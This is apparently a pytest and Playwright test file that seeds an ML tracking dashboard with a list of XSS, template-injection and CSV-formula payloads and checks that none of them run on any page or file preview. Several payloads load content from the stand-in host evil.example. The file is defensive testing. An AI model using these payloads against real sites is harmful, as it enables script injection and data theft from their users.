"""Whatever users write stays text: in every field, on every page, nothing of it runs, loads or leaves the machine."""

from __future__ import annotations

import io
import json
from collections.abc import Callable

import pytest
from playwright.sync_api import Page, expect

from tests.dashboard.digits import Log, make_run
from tests.dashboard.site import Site

Opener = Callable[..., Page]
ELSEWHERE = "//evil.example"
PAYLOADS = [
    "<script>xss()</script>",
    "<ScRiPt>xss()</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>xss()</script>",
    "</script><script>xss()</script>",
    "<<script>xss();//<</script>",
    "<img src=x onerror=xss()>",
    "<img src=//evil.example/x.png>",
    "<img srcset='//evil.example/x.png 1x'>",
    "<image href=x onerror=xss()>",
    "<svg onload=xss()>",
    "<svg><script>xss()</script></svg>",
    "<svg><animate onbegin=xss() attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=xss()>#x'/></svg>",
    "<svg><set onbegin=xss() attributename=x>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=xss()>",
    "<iframe src=javascript:xss()></iframe>",
    "<iframe srcdoc='<script>parent.xss()</script>'></iframe>",
    "<object data=javascript:xss()></object>",
    "<embed src=javascript:xss()>",
    "<body onload=xss()>",
    "<video><source onerror=xss()></video>",
    "<video poster=//evil.example/x.png>",
    "<audio src=x onerror=xss()>",
    "<details open ontoggle=xss()>x</details>",
    "<input autofocus onfocus=xss()>",
    "<select autofocus onfocus=xss()>",
    "<textarea autofocus onfocus=xss()>",
    "<marquee onstart=xss()>x</marquee>",
    "<a href=javascript:xss()>x</a>",
    "<a href='java&#10;script:xss()'>x</a>",
    "<form action=javascript:xss()><input type=submit></form>",
    "<button formaction=javascript:xss()>x</button>",
    "<isindex action=javascript:xss() type=image>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/x>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<div style='background:url(//evil.example/x)'>x</div>",
    "<div style='animation:x' onanimationstart=xss()>x</div>",
    "<table background=//evil.example/x.png>",
    "<template><script>xss()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=xss()>'>",
    "<x onclick=xss() contenteditable autofocus onfocus=xss()>",
    "<portal src=//evil.example/>",
    "\" onmouseover=\"xss()",
    "' onmouseover='xss()",
    "\"><img src=x onerror=xss()>",
    "'><img src=x onerror=xss()>",
    "`><img src=x onerror=xss()>",
    "--><img src=x onerror=xss()>",
    "]]><img src=x onerror=xss()>",
    "javascript:xss()",
    "data:text/html,<script>xss()</script>",
    "{{constructor.constructor('xss()')()}}",
    "${xss()}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "<b>%{x}</b><br><a href='javascript:xss()'>plotly</a>",
    "&lt;img src=x onerror=xss()&gt;",
    "\\u003cimg src=x onerror=xss()\\u003e",
    "=cmd|' /C calc'!A0",
    "__proto__",
    "constructor",
    "<!--<img src=--><img src=x onerror=xss()>",
]  # fmt: skip


def as_name(payload: str) -> str:
    """A payload as a name of a project, a run or a user can be: those hold no / \\ % ? #."""
    return payload.translate(dict.fromkeys(map(ord, "/\\%?#"), "|"))[:120].strip()


def as_key(payload: str) -> str:
    return payload[:240].strip()


def fill(log: Log, text: str) -> Log:
    """Write a text into everything that a run keeps."""
    log.params({as_key(text): text, "kind": text, "lr": len(text)})
    log.points(as_key(text).lstrip("/") or "m", [1.0, float(len(text))], gap_us=1_000_000)
    log.points("loss", [2.0, 1.0], gap_us=1_000_000)
    log.document({"kind": "tags", "values": {as_key(text): text}})
    log.document({"kind": "description", "text": text})
    cell = json.dumps({"started_at": log.at_us / 1e6, "ended_at": log.at_us / 1e6 + 1, "status": text})
    log.facts(
        {
            "error.traceback": text,
            "cell.0001": cell,
            "cell.0001.source": text,
            "git.branch": text,
            "git.commit": text,
            "changes.summary": text,
            "changes.params": text,
            "changes.packages": text,
            "changes.source": text,
            "packages": text,
            as_key(text): text,
        }
    )
    return log.end("FAILED", 2_000_000, error=text)


@pytest.fixture(scope="module")
def hostile(site: Site) -> dict[str, str]:
    """A user, sixty projects and runs, and files, all made of payloads; gives ids of runs by payload."""
    assert len(PAYLOADS) >= 60
    assert len({as_name(payload) for payload in PAYLOADS}) == len(PAYLOADS)
    owner = as_name("<img src=x onerror=xss()>")
    site.add_user(owner)
    site.accounts.create_key(site.root, owner, label="<script>xss()</script>")
    made = {}
    for payload in PAYLOADS:
        make_run(site.tracking, "r", project=as_name(payload), owner=owner).end("FINISHED", 1).send()
        log = make_run(site.tracking, as_name(payload), project="hostile", owner=owner)
        fill(log, payload).send()
        made[payload] = log.run.run_id
    everything = make_run(site.tracking, "everything", project="hostile", owner=owner)
    for payload in PAYLOADS:
        everything.params({as_key(payload): payload})
        everything.document({"kind": "tags", "values": {as_key(payload): payload}})
        everything.points(as_key(payload), [0.5, 1.5], gap_us=1_000_000)
    everything.facts(
        {"cell.0001": "{}", "cell.0001.source": "\n".join(PAYLOADS), "error.traceback": "\n".join(PAYLOADS)}
    )
    everything.end("FAILED", 2_000_000, error=" ".join(PAYLOADS)).send()
    made["everything"] = everything.run.run_id
    site.tracking.set_permission(owner, everything.run.project_id, "bob", 1, new=None)
    for name, content in files().items():
        site.tracking.put_artifact(owner, everything.run, name, io.BytesIO(content.encode()))
    made["owner"], made["project_id"] = owner, str(everything.run.project_id)
    return made


def files() -> dict[str, str]:
    """Files of every kind that is shown, made of payloads; their names are payloads as well."""
    text = "\n".join(PAYLOADS)
    rows = "\n".join(f'"{payload.replace(chr(34), chr(34) * 2)}",1' for payload in PAYLOADS)
    figure = {
        "data": [{"type": "bar", "x": PAYLOADS, "y": [1] * len(PAYLOADS), "text": PAYLOADS}],
        "layout": {"title": {"text": PAYLOADS[6]}, "images": [{"source": "https://evil.example/x.png"}]},
    }
    svg = (
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="xss()"><script>xss()</script><text>{PAYLOADS[6]}</text></svg>'
    )
    return {
        "notes.txt": text, "table.csv": f"name,value\n{rows}\n", "figure.json": json.dumps(figure), "page.html": text,
        "drawing.svg": svg, "picture.png": text, "<img src=x onerror=xss()>.txt": "x", "plain.json": text,
    }  # fmt: skip


def watched(open_page: Opener, path: str, user: str, said: list[str]) -> Page:
    """Open a page in which a payload that runs says so."""
    page = open_page("/login", user)
    page.expose_function("xss", lambda *told: said.append(str(told)))
    page.on("dialog", lambda dialog: said.append(dialog.message))
    page.on("popup", lambda popup: said.append(popup.url))
    page.goto(page.url.rpartition("/login")[0] + path)
    return page


def own_parts(page: Page) -> None:
    """No element of a page was made by a payload."""
    made = page.evaluate(
        """() => [...document.querySelectorAll(`script:not([src]):not([type="application/json"]), img:not(.dash-image),
            iframe:not(.dash-frame), object, embed, base, marquee, audio, video, template, form[action^=java], math`)]
            .map(each => each.outerHTML.slice(0, 120))"""
    )
    assert made == []
    handlers = page.evaluate(
        """() => {
            const isCode = ({name, value}) => /^on/i.test(name)
                || (/^(href|src|action)$/i.test(name) && /^\\s*javascript:/i.test(value));
            const found = [...document.querySelectorAll('*')].filter(each => [...each.attributes].some(isCode));
            return found.map(each => each.outerHTML.slice(0, 120));
        }"""
    )
    assert handlers == []


def test_nothing_runs_in_lists_of_projects_runs_people_and_keys(
    open_page: Opener, site: Site, hostile: dict[str, str]
) -> None:
    said: list[str] = []
    owner = hostile["owner"]
    page = watched(open_page, "/", owner, said)
    expect(page.locator(".mlf-projects-table tbody tr")).to_have_count(len(PAYLOADS) + 1)
    own_parts(page)
    page.get_by_role("link", name=f"Open {owner}/hostile").click()
    expect(page.get_by_role("grid")).to_be_visible()
    expect(page.locator(".mlf-runs-counts")).to_contain_text(f"{len(PAYLOADS) + 1} runs")
    own_parts(page)
    page.get_by_role("button", name="columns").click()
    page.locator(".mlf-tr:not([hidden])").nth(2).locator(".mlf-check").click()
    page.get_by_role("button", name="details").click()
    expect(page.locator(".mlf-details dl").first).to_be_visible()
    own_parts(page)
    page.get_by_role("link", name="Collaborators").click()
    expect(page.locator(".mlf-people-table")).to_contain_text("<img src=x onerror=xss()>")
    own_parts(page)
    page.goto(f"{site.address}/account")
    expect(page.get_by_role("row").filter(has_text="<script>xss()")).to_be_visible()
    own_parts(page)
    assert said == []


def test_nothing_runs_on_the_page_of_a_run_or_of_a_comparison(
    open_page: Opener, site: Site, hostile: dict[str, str], scale: Callable[..., int]
) -> None:
    said: list[str] = []
    page = watched(open_page, f"/r/{hostile['everything']}", hostile["owner"], said)
    expect(page.locator(".mlf-charts-tab .scatterlayer .trace").first).to_be_visible(timeout=60_000)
    for tab in ("Cells", "Details", "Code", "System", "Metrics"):
        page.get_by_role("tab", name=tab).click()
        if tab == "Code":
            expect(page.get_by_role("tabpanel", name=tab).locator(".dash-code").first).to_be_visible()
        own_parts(page)
    chosen = [PAYLOADS[n % len(PAYLOADS)] for n in range(0, len(PAYLOADS), max(1, len(PAYLOADS) // scale(66, 4)))]
    for payload in chosen:
        page.goto(f"{site.address}/r/{hostile[payload]}?tab=details")
        expect(page.locator("#served")).to_have_count(0)
        expect(page.locator(".mlf-run-error")).to_be_visible()
        own_parts(page)
    ids = ",".join(hostile[payload] for payload in PAYLOADS[:12])
    page.goto(f"{site.address}/p/{hostile['owner']}/hostile/compare?runs={ids}")
    expect(page.locator(".mlf-compare-chip")).to_have_count(12)
    expect(page.locator(".mlf-compare-figure .scatterlayer .trace").first).to_be_attached(timeout=60_000)
    own_parts(page)
    assert said == []


def test_nothing_runs_of_the_files_that_are_looked_into(open_page: Opener, site: Site, hostile: dict[str, str]) -> None:
    said: list[str] = []
    page = watched(open_page, f"/r/{hostile['everything']}?tab=files", hostile["owner"], said)
    # What the sandbox forbids, and the picture that is none, the browser tells in its console.
    page.watch.expected += ["sandbox", "Content Security Policy", "policy", "404", "allow-scripts", "Unsafe attempt"]  # type: ignore[attr-defined]
    for name in files():
        page.get_by_role("button", name=name, exact=True).click()
        expect(page.locator(".dash-look-name")).to_have_text(name)
        expect(page.locator(".dash-look-body .mlf-skeleton")).to_have_count(0)
        if name.endswith((".html", ".svg")):
            frame = page.frame_locator(".dash-frame")
            expect(frame.locator("body, svg").first).to_be_attached()
            assert page.locator(".dash-frame").get_attribute("sandbox") == ""
        if name == "figure.json":
            expect(page.locator(".dash-figure .bars").first).to_be_attached(timeout=60_000)
        own_parts(page)
    assert said == []


def test_a_file_opened_alone_is_of_no_origin_and_runs_nothing(site: Site, hostile: dict[str, str]) -> None:
    place = f"/dashboard/projects/{hostile['project_id']}/runs/{hostile['everything']}/preview"
    kinds = {"page.html": "text/html", "drawing.svg": "image/svg+xml", "picture.png": "image/png"}
    for name in files():
        answer = site.ask("GET", place, hostile["owner"], params={"path": name})
        assert answer.status_code == 200, name
        assert answer.headers["Content-Type"].partition(";")[0] == kinds.get(name, "text/plain"), name
        policy = answer.headers["Content-Security-Policy"]
        assert policy.startswith("sandbox; default-src 'none'"), name
        assert "allow-scripts" not in policy
        assert "script-src" not in policy
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
    whole = place.replace("/dashboard/", "/api/v1/").replace("/preview", "/artifacts/content")
    answer = site.ask("GET", whole, hostile["owner"], params={"path": "page.html"})
    assert answer.headers["Content-Disposition"] == "attachment"


@pytest.mark.parametrize("word", ["filter", "words", "sort", "columns", "runs", "best", "compare", "base", "x", "next"])
def test_nothing_runs_that_stands_in_the_address(site: Site, word: str, open_page: Opener) -> None:
    said: list[str] = []
    page = watched(open_page, "/account", "ann", said)
    page.watch.expected.append("400")  # type: ignore[attr-defined]
    for payload in (PAYLOADS[6], PAYLOADS[47], PAYLOADS[63]):
        page.goto(
            site.address
            + site.digits
            + "?"
            + page.evaluate("([a, b]) => new URLSearchParams([[a, b]])+''", [word, payload])
        )
        expect(page.get_by_role("grid")).to_be_visible()
        own_parts(page)
    assert said == []


def test_the_pages_without_javascript_hold_the_payloads_as_text(site: Site, hostile: dict[str, str]) -> None:
    for path in ("/", f"/p/{hostile['owner']}/hostile", f"/r/{hostile['everything']}"):
        text = site.ask("GET", path, hostile["owner"], headers={"Accept": "text/html"}).text
        assert "&lt;img src=x" in text
        for bare in ("<img", "<svg onload", "<iframe", "onerror=xss()>", "<b>%{x}", "<base"):
            assert bare not in text, (path, bare)
